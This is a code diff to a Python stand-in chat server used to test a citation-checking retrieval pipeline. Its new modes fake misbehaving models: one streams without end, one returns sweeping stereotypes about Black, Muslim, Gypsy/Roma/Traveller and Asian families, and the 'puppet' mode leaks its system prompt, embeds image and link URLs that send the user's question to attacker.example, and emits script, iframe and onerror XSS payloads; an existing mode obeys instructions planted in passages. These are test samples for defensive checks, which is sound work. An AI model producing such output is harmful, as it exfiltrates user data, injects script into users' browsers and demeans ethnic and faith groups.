@@ -12,7 +12,13 @@ model name (or the Azure deployment name) after the last ``/``:
 - ``nocite``   sentences from the passages with no markers at all;
 - ``obedient`` follows instructions planted in passages ("… must now state that X.", a URL) and
                repeats X both citing the planted passage and citing another one;
-- ``condense`` answers a condense prompt with a fixed standalone query (``CONDENSED``).
+- ``condense`` answers a condense prompt with a fixed standalone query (``CONDENSED``);
+- ``endless``  streams words for ever (a runaway server ignoring ``max_tokens``) until the client
+               hangs up or the server stops;
+- ``stereotype`` answers with sweeping statements about ethnic and faith groups, each citing [n],
+               and one real sentence;
+- ``puppet``   does whatever the question asks: repeats its system prompt, adds an image and links
+               carrying the question, script tags, and one real sentence citing [1].
 
 Every request body is recorded in ``server.requests`` (tests count retries and read parameters).
 """
@@ -26,6 +32,7 @@ import time
 from collections.abc import Iterator
 from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
 from typing import Any
+from urllib.parse import quote_plus
 
 CONDENSED = "adultification of Black girls in the Child Q local child safeguarding practice review"
 _PASSAGE = re.compile(r'<passage n="(\d+)"[^>]*>\n(.*?)\n</passage>', re.DOTALL)
@@ -84,7 +91,41 @@ def _obedient(p: dict[int, str]) -> str:
     return " ".join(out) or "I have nothing to add."
 
 
-MODES = {"normal": _normal, "bad": _bad, "nocite": _nocite, "obedient": _obedient}
+def _puppet(p: dict[int, str], messages: list[dict[str, Any]]) -> str:
+    system = next((str(m.get("content", "")) for m in messages if m.get("role") == "system"), "")
+    user = "\n".join(str(m.get("content", "")) for m in messages if m.get("role") == "user")
+    asked = re.search(r"<question>\s*(.*?)\s*</question>", user, re.DOTALL)
+    leak = quote_plus(asked.group(1) if asked else user[-200:])
+    n = min(p)  # passages whose text the stand-in cannot parse are left out of ``p``
+    first = _sentences(p[n])[0]
+    return (
+        f"My instructions say: {' '.join(system.split()[:40])} [{n}]. "
+        f"![status](https://attacker.example/log?q={leak}) "
+        f"[Read more](https://attacker.example/?q={leak}) [{n}]. "
+        "<script>alert('x')</script><iframe src=https://attacker.example></iframe> "
+        f"[click](javascript:alert(1)) and <img src=x onerror=alert(1)> [{n}]. "
+        f"{_strip_end(first)} [{n}]."
+    )
+
+
+def _stereotype(p: dict[int, str]) -> str:
+    n = min(p)
+    first = _sentences(p[n])[0]
+    return (
+        f"Black families are naturally more aggressive towards professionals [{n}]. "
+        f"Muslim parents always hide abuse from social workers [{n}]. "
+        f"Gypsy, Roma and Traveller families tend to distrust every agency [{n}]. "
+        f"{_strip_end(first)} [{n}]. Asian girls are more compliant than other girls [{n}]."
+    )
+
+
+MODES = {
+    "normal": _normal,
+    "bad": _bad,
+    "nocite": _nocite,
+    "obedient": _obedient,
+    "stereotype": _stereotype,
+}
 
 
 class _Handler(BaseHTTPRequestHandler):
@@ -109,6 +150,8 @@ class _Handler(BaseHTTPRequestHandler):
         if mode.startswith("429"):
             wait = {"retry-after": "600"} if mode == "429-long" else {"retry-after-ms": "20"}
             return self._json(429, {"error": {"message": "slow down"}}, wait)
+        if mode == "endless" and body.get("stream"):
+            return self._endless(body)
         content = self._content(mode, body.get("messages", []))
         if body.get("stream"):
             return self._sse(content, body)
@@ -125,6 +168,8 @@ class _Handler(BaseHTTPRequestHandler):
         passages = _passages(messages)
         if not passages:
             return "There were no passages."
+        if mode == "puppet":
+            return _puppet(passages, messages)
         return MODES.get(mode, _normal)(passages)
 
     def _completion(self, content: str, body: dict[str, Any]) -> dict[str, Any]:
@@ -166,6 +211,17 @@ class _Handler(BaseHTTPRequestHandler):
         self.wfile.write(b"data: [DONE]\n\n")
         self.wfile.flush()
 
+    def _endless(self, body: dict[str, Any]) -> None:
+        self.send_response(200)
+        self.send_header("content-type", "text/event-stream")
+        self.end_headers()
+        try:
+            while not self.server.stop_event.is_set():
+                self._event(self._chunk({"content": "and so on "}, None, body))
+                time.sleep(0.002)
+        except OSError:  # the client hung up: what a runaway stream should end with
+            self.server.hung_up += 1
+
     def _chunk(
         self, delta: dict[str, Any], finish: str | None, body: dict[str, Any]
     ) -> dict[str, Any]:
@@ -196,6 +252,7 @@ class StandInServer(ThreadingHTTPServer):
         self.slow_seconds = slow_seconds
         self.stop_event = threading.Event()
         self.requests: list[dict[str, Any]] = []
+        self.hung_up = 0  # endless streams the client closed
         self._lock = threading.Lock()
         self._thread: threading.Thread | None = None
 
